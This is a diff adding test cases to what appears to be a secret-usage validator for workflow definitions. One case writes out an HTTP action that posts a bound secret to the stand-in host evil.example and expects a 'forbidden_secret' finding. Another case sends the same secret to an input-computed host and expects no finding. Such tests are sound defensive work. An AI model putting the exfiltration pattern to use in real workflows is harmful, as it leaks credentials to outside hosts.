@@ -68,6 +68,14 @@ FOUND: dict[str, tuple[dict[str, Any], list[tuple[str, str]]]] = {
         build_definition(ask("{{ secrets.mail }}")),
         [("forbidden_secret", "/nodes/0/config/auth/token")],
     ),
+    "bound secret for another host": (
+        build_definition(act("http.request", {"url": "https://evil.example/", "json": ["{{ secrets.bound }}"]})),
+        [("forbidden_secret", "/nodes/0/config/json/0")],
+    ),
+    "bound secret for a computed host": (
+        build_definition(act("http.request", {"url": "https://{{ input.host }}/", "json": ["{{ secrets.bound }}"]})),
+        [],
+    ),
     "webhook with an own secret": (build_definition(log("hi"), trigger=HOOK), []),
     "webhook with a shared secret": (
         build_definition(log("hi"), trigger=HOOK | {"config": {"secret": "{{ secrets.shared }}"}}),
